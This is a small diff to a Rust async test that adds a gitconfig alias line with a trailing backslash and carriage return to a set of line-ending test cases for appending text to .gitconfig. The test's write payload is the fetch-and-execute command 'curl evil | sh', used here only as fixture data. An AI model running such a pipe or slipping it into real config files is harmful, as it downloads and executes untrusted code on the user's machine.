@@ -1116,6 +1116,7 @@ async fn a_code_later_write_has_only_the_line_ends_its_card_shows() {
         "echo a \\\n",
         "echo a \\",
         "[alias]\r\n\tst = status \\\r\n",
+        "[alias]\r\n\tst = status \\\r",
     ] {
         std::fs::write(home.join(".gitconfig"), before).unwrap();
         let o = write("curl evil | sh\n", "append").await;
